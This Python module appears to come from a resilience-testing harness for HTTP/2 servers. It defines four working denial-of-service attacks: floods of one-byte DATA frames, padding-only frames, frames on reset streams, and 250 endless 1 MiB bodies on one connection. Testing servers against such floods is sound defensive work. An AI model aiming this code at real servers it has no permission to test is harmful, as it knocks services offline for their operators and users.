"""Strangers over HTTP/2: frames that are dear to take in and carry next to nothing, and bodies that never end."""

import asyncio

from aim import Aim, Attack
from http2_frames_kit import DATA, OPENING, PADDED, RESET, frame, head
from stage import ENCRYPTED

BURST = 20_000  # frames in one write
BURSTS = 10
MIB = 2**20


async def _flood(aim: Aim, opening: bytes, frames: bytes) -> None:
    """Sends as fast as they are taken, and reads nothing."""
    _, writer = await aim.open("h2")
    writer.write(OPENING + opening)
    for _ in range(BURSTS):
        writer.write(frames)
        await writer.drain()
        aim.tally["bursts"] += 1
    await asyncio.sleep(0.5)
    writer.transport.abort()


async def one_byte(aim: Aim) -> None:
    frames = frame(DATA, 0, 1, b"x") * BURST
    await aim.crowd(2, lambda: _flood(aim, head(1), frames))


async def padded(aim: Aim) -> None:
    frames = frame(DATA, PADDED, 1, b"\0") * BURST
    await aim.crowd(2, lambda: _flood(aim, head(1), frames))


async def closed(aim: Aim) -> None:
    frames = frame(DATA, 0, 1, b"x") * BURST
    opening = head(1) + frame(RESET, 0, 1, (8).to_bytes(4, "big"))
    await aim.crowd(2, lambda: _flood(aim, opening, frames))


async def unfinished(aim: Aim) -> None:
    """250 streams of one connection, each with a body of 1 MiB that lacks its last bytes."""
    piece = b"x" * 16_000

    async def one() -> None:
        reader, writer = await aim.open("h2")
        writer.write(OPENING)
        swallowing = asyncio.create_task(_swallow(reader))
        streams = range(1, 501, 2)
        writer.writelines(head(stream) for stream in streams)
        try:
            for _ in range(MIB // len(piece)):
                for stream in streams:
                    writer.write(frame(DATA, 0, stream, piece))
                    await writer.drain()
                    aim.tally["pieces"] += 1
            await asyncio.sleep(5.0)
        finally:
            swallowing.cancel()
            writer.transport.abort()

    await aim.crowd(1, one)


async def _swallow(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


ONE_BYTE = Attack(
    "HTTP/2: DATA of one byte", "A stranger sends a body in frames of one byte.", one_byte, ENCRYPTED
)
EMPTY = Attack(
    "HTTP/2: DATA that is all padding", "A stranger sends frames that hold only padding.", padded, ENCRYPTED
)
CLOSED = Attack(
    "HTTP/2: DATA on a closed stream",
    "A stranger sends frames on a stream that it has reset.",
    closed,
    ENCRYPTED,
)
UNFINISHED = Attack(
    "HTTP/2: unfinished bodies",
    "A stranger begins 250 bodies of 1 MiB on one connection.",
    unfinished,
    ENCRYPTED,
)
